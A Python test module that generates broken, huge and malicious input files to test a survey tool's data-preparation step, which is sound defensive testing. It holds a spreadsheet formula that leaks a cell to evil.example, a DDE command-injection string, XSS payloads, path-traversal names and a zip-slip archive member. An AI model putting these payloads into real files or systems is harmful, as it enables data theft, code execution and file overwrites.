"""A corpus of hostile inputs, made by code: every file a researcher (or an attacker) might drop into
``data/raw/<wave>/`` that is broken, huge, odd or malicious.

Each :class:`Case` writes its files into a wave folder and says what ``survey prepare`` must do with
them: ``expect="ok"`` (exit 0, and ``rows`` respondents received, each accounted for as valid or
excluded) or a regular expression the one error message must match (exit 2, naming the file).
The reports made from hostile names and text are tested in tests/test_output_safety.py. The files
are made from the project's own codebooks (conftest.wjx_frame), so a codebook change keeps the
corpus valid.

Kept apart from tests/test_cli.py's six bad files (0-byte .csv, encrypted .xlsx, ``bytes(range(256))``
as .csv, a UTF-8 file ending in undecodable bytes, no district column, an .xlsx cut at 700 bytes):
the cases here are other shapes of the same kinds of damage, not repeats of those.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import numpy as np
import pandas as pd

from conftest import wjx_frame

# district names that must not become paths: separators, parent folders, blanks, punctuation, devices
HOSTILE_DISTRICTS = ["桥/东区", "..", "../../etc", "新华 区", "！！！", ".hidden区", "CON", "aux.txt",
                     "长安区.", "a\\b区", "裕华区\x07", "<script>alert(1)</script>区", "a:b*c?区", "_"]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'

Writer = Callable[[Path, dict], None]


@dataclass
class Case:
    name: str                       # test id
    files: dict[str, Writer]        # file name → writer(path, books)
    expect: str = "ok"              # "ok" or a regex the error message matches
    rows: int | None = None         # respondents received over all files (expect="ok")
    districts: list[str] | None = None   # the districts prepare must find (expect="ok")
    notes: str = ""
    check: Callable[[Path], None] | None = field(default=None, repr=False)


def _worker_rows(n: int, district: str = "桥东区", **extra) -> list[dict]:
    genders = ["男", "女"]
    return [{"district": district, "gender": genders[i % 2], "age": str(30 + i % 25), "edu": "本科",
             "post": "社区两委委员", "employment": "专职", "sat_pay": "满意", **extra} for i in range(n)]


def _frame(books, instrument="worker", rows=None) -> pd.DataFrame:
    return wjx_frame(books[instrument], rows if rows is not None else _worker_rows(5))


def _xlsx_bytes(df: pd.DataFrame) -> bytes:
    buf = io.BytesIO()
    df.to_excel(buf, index=False)
    return buf.getvalue()


def _xlsx(df_fn) -> Writer:
    return lambda p, books: p.write_bytes(_xlsx_bytes(df_fn(books)))


def _csv(df_fn, encoding="utf-8") -> Writer:
    return lambda p, books: p.write_bytes(df_fn(books).to_csv(index=False).encode(encoding))


def _truncated(fraction: float) -> Writer:
    def write(p, books):
        data = _xlsx_bytes(_frame(books, rows=_worker_rows(40)))
        p.write_bytes(data[:max(1, int(len(data) * fraction))])
    return write


def _zip_edit(edit: Callable[[str, bytes], bytes | None]) -> Writer:
    """A real .xlsx with its members passed through ``edit`` (None drops the member)."""
    def write(p, books):
        src = zipfile.ZipFile(io.BytesIO(_xlsx_bytes(_frame(books))))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for info in src.infolist():
                data = edit(info.filename, src.read(info))
                if data is not None:
                    z.writestr(info.filename, data)
        p.write_bytes(out.getvalue())
    return write


def _flip_bytes(p: Path, books) -> None:
    data = bytearray(_xlsx_bytes(_frame(books)))
    rng = np.random.default_rng(7)
    for i in rng.integers(200, len(data) - 200, size=40):
        data[i] ^= 0xFF
    p.write_bytes(bytes(data))


def _random_bytes(seed: int, size: int) -> Writer:
    return lambda p, books: p.write_bytes(np.random.default_rng(seed).integers(0, 256, size, dtype=np.uint8)
                                          .tobytes())


def _png(p: Path, books) -> None:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (40, 40), (200, 30, 30)).save(buf, format="PNG")
    p.write_bytes(buf.getvalue())


def _mixed_lines(p: Path, books) -> None:
    """A UTF-8 export into which someone pasted rows saved as GBK: the GBK rows are not UTF-8,
    the UTF-8 rows are not GB18030 text anyone wrote (they decode as mojibake)."""
    df = _frame(books, rows=_worker_rows(6))
    lines = df.to_csv(index=False).splitlines(keepends=True)
    data = b"".join(line.encode("gb18030" if i in (3, 4) else "utf-8") for i, line in enumerate(lines))
    p.write_bytes(data)


def _header_only(fmt: str) -> Writer:
    def write(p, books):
        df = _frame(books).iloc[:0]
        p.write_bytes(_xlsx_bytes(df) if fmt == "xlsx" else df.to_csv(index=False).encode("utf-8"))
    return write


def _wide(p: Path, books) -> None:
    df = _frame(books, rows=_worker_rows(3))
    extra = pd.DataFrame({f"附加列{j}": [str(j)] * len(df) for j in range(10_000 - df.shape[1])})
    pd.concat([df, extra], axis=1).to_csv(p, index=False)


def _long_cell(p: Path, books) -> None:
    text = ("社区服务很好，" * 30_000)[:200_000]
    rows = _worker_rows(3)
    rows[1]["community"] = text
    df = _frame(books, rows=rows)
    df.to_csv(p, index=False)


def _controls_emoji(p: Path, books) -> None:
    rows = _worker_rows(6)
    rows[0]["community"] = "幸福\x00社区\x01\x1b[31m"
    rows[1]["community"] = "和谐社区😀👨‍👩‍👧\u200b\u202e反转"
    rows[2]["gender"] = "男\u200b"
    rows[3]["street"] = "东\tsolid\r\n街道"
    rows[4]["age"] = "４０岁🎂"
    _frame(books, rows=rows).to_csv(p, index=False)


def _formulas(fmt: str) -> Writer:
    def write(p, books):
        rows = _worker_rows(4)
        rows[0]["community"] = FORMULA
        rows[1]["street"] = "=1+1"
        rows[2]["community"] = "@SUM(A1:A9)"
        rows[3]["street"] = "+cmd|' /C calc'!A0"
        df = _frame(books, rows=rows)
        if fmt == "xlsx":
            p.write_bytes(_xlsx_bytes(df))
        else:
            df.to_csv(p, index=False)
    return write


def _resident_text(p: Path, books) -> None:
    rows = [{"district": "桥东区", "gender": "女", "age": str(50 + i), "sat_overall": "满意",
             "suggestion": SCRIPT, "community": SCRIPT, "street": FORMULA} for i in range(4)]
    p.write_bytes(_xlsx_bytes(wjx_frame(books["resident"], rows)))


def _districts(names: list[str], per: int = 3) -> Writer:
    """CSV: an .xlsx cannot hold control characters (openpyxl refuses them), a CSV can."""
    def write(p, books):
        rows = [r for name in names for r in _worker_rows(per, district=name)]
        p.write_bytes(_frame(books, rows=rows).to_csv(index=False).encode("utf-8"))
    return write


def _district_file(name: str, n: int = 3, fmt: str = "xlsx") -> Writer:
    def write(p, books):
        df = _frame(books, rows=_worker_rows(n, district=name))
        p.write_bytes(_xlsx_bytes(df) if fmt == "xlsx" else df.to_csv(index=False).encode("utf-8"))
    return write


def _text_named_xlsx(p: Path, books) -> None:
    p.write_bytes(_frame(books).to_csv(index=False).encode("utf-8"))


def _html_named_xls(p: Path, books) -> None:
    """Old web systems "export to Excel" as an HTML table with an .xls name."""
    p.write_bytes(_frame(books).to_html(index=False).encode("utf-8"))


def _utf16_no_bom(p: Path, books) -> None:
    p.write_bytes(_frame(books).to_csv(index=False, sep="\t").encode("utf-16-le"))


def _gbk_csv(p: Path, books) -> None:
    p.write_bytes(_frame(books, rows=_worker_rows(7, district="橋東區")).to_csv(index=False).encode("gb18030"))


def _unbalanced_quotes(p: Path, books) -> None:
    text = _frame(books).to_csv(index=False)
    lines = text.splitlines()
    lines[2] = lines[2].replace("桥东区", '"桥东区', 1)
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _ragged_rows(p: Path, books) -> None:
    text = _frame(books).to_csv(index=False)
    lines = text.splitlines()
    lines[3] = lines[3] + ",多,出,来,的,列"
    lines[4] = ",".join(lines[4].split(",")[:5])
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _blank_header_cells(p: Path, books) -> None:
    df = _frame(books)
    cols = list(df.columns)
    df.insert(3, "", ["x"] * len(df), allow_duplicates=True)
    df.columns = cols[:3] + [""] + cols[3:]
    df.to_csv(p, index=False)


def _duplicate_header(p: Path, books) -> None:
    df = _frame(books)
    df.columns = list(df.columns[:-1]) + [df.columns[-2]]
    df.to_csv(p, index=False)


def _bad_zip_member_names(p: Path, books) -> None:
    """An .xlsx whose zip carries a member named to escape the folder: it must be read, never unpacked."""
    def edit(name, data):
        return data
    _zip_edit(edit)(p, books)
    with zipfile.ZipFile(p, "a") as z:
        z.writestr("../../evil.txt", b"owned")


CASES: list[Case] = [
    # ── damaged Excel ──
    Case("xlsx_truncated_10pct", {"cut.xlsx": _truncated(0.10)}, r"无法读取 Excel"),
    Case("xlsx_truncated_60pct", {"cut.xlsx": _truncated(0.60)}, r"无法读取 Excel"),
    Case("xlsx_truncated_last_byte", {"cut.xlsx": _truncated(0.999)}, r"无法读取 Excel"),
    Case("xlsx_sheet_xml_garbage", {"bad.xlsx": _zip_edit(
        lambda n, d: b"<worksheet><sheetData><row><c r=" if n.endswith("sheet1.xml") else d)}, r"无法读取 Excel"),
    Case("xlsx_without_worksheet", {"bad.xlsx": _zip_edit(
        lambda n, d: None if n.startswith("xl/worksheets/") else d)}, r"无法读取 Excel"),
    Case("xlsx_without_workbook", {"bad.xlsx": _zip_edit(
        lambda n, d: None if n == "xl/workbook.xml" else d)}, r"无法读取 Excel"),
    Case("xlsx_styles_garbage", {"bad.xlsx": _zip_edit(
        lambda n, d: b"\x00\xff" * 50 if n.endswith("styles.xml") else d)}, r"无法读取 Excel"),
    Case("xlsx_flipped_bytes", {"bad.xlsx": _flip_bytes}, r"无法读取 Excel"),
    Case("xlsx_is_really_csv", {"text.xlsx": _text_named_xlsx}, r"无法读取 Excel"),
    # read by content, with a note saying so (issue 18, D18)
    Case("xls_is_really_html", {"web.xls": _html_named_xls}, "ok", rows=5),
    Case("csv_is_really_xlsx", {"book.csv": _xlsx(_frame)}, "ok", rows=5),
    Case("xlsx_random_bytes", {"noise.xlsx": _random_bytes(3, 5000)}, r"无法读取 Excel"),
    Case("xlsx_zero_bytes", {"empty.xlsx": lambda p, b: p.write_bytes(b"")}, r"空的"),
    Case("xlsx_zip_slip_member", {"slip.xlsx": _bad_zip_member_names}, "ok", rows=5),
    # ── damaged text ──
    Case("csv_random_bytes", {"noise.csv": _random_bytes(11, 20_000)}, r"二进制|编码"),
    Case("csv_png_inside", {"picture.csv": _png}, r"二进制|编码"),
    Case("csv_zero_bytes_beside_good", {"a.csv": _csv(_frame), "b.csv": lambda p, b: p.write_bytes(b"")},
         r"空的"),
    Case("csv_utf8_with_gbk_rows", {"mixed.csv": _mixed_lines}, r"编码.*第 [45] 行|第 [45] 行.*编码"),
    Case("csv_utf16_without_bom", {"u16.csv": _utf16_no_bom}, r"二进制|编码"),
    Case("csv_unbalanced_quote", {"quote.csv": _unbalanced_quotes}, r"CSV 格式错误"),
    Case("csv_tab_separated_utf8", {"tab.csv": lambda p, b: p.write_bytes(
        _frame(b).to_csv(index=False, sep="\t").encode("utf-8"))}, "ok", rows=5),    # found by fuzzing
    Case("csv_semicolon_separated", {"semi.csv": lambda p, b: p.write_bytes(
        _frame(b).to_csv(index=False, sep=";").encode("gb18030"))}, "ok", rows=5),
    Case("csv_ragged_rows", {"ragged.csv": _ragged_rows}, "ok", rows=5),
    # a questionnaire nobody has answered yet: read, 0 received = 0 valid + 0 excluded
    Case("csv_header_only", {"head.csv": _header_only("csv")}, "ok", rows=0),
    Case("xlsx_header_only_beside_good", {"head.xlsx": _header_only("xlsx"), "good.xlsx": _xlsx(_frame)},
         "ok", rows=5),
    Case("csv_duplicate_header", {"dup.csv": _duplicate_header}, r"出现了两次"),
    Case("csv_blank_header_cell", {"blank.csv": _blank_header_cells}, "ok", rows=5),
    Case("csv_gbk_traditional", {"gbk.csv": _gbk_csv}, "ok", rows=7, districts=["桥东区"]),
    # ── big ──
    Case("csv_10000_columns", {"wide.csv": _wide}, "ok", rows=3),
    Case("csv_200000_char_cell", {"long.csv": _long_cell}, "ok", rows=3),
    # ── odd text in cells ──
    Case("csv_control_chars_and_emoji", {"ctl.csv": _controls_emoji}, "ok", rows=6),
    Case("csv_formulas_in_answers", {"f.csv": _formulas("csv")}, "ok", rows=4),
    Case("xlsx_formulas_in_answers", {"f.xlsx": _formulas("xlsx")}, "ok", rows=4),
    Case("xlsx_html_script_free_text", {"w.xlsx": _district_file("桥东区", 4),
                                        "r.xlsx": _resident_text}, "ok", rows=8),
    # ── district names ──
    Case("hostile_district_names", {"d.csv": _districts(HOSTILE_DISTRICTS)}, "ok",
         rows=3 * len(HOSTILE_DISTRICTS)),
    Case("districts_traditional_vs_simplified", {"a.xlsx": _district_file("桥东区", 3),
                                                 "b.xlsx": _district_file("橋東區", 4)},
         "ok", rows=7, districts=["桥东区"]),
    Case("districts_fullwidth_letters", {"a.xlsx": _district_file("ABC新区", 2),
                                         "b.csv": _district_file("ＡＢＣ新区", 3, "csv"),
                                         "c.xlsx": _district_file(" ABC新区\u3000", 1)},
         "ok", rows=6, districts=["ABC新区"]),
    Case("district_only_spaces", {"a.xlsx": _district_file("\u3000 ", 3)}, "ok", rows=3),
]
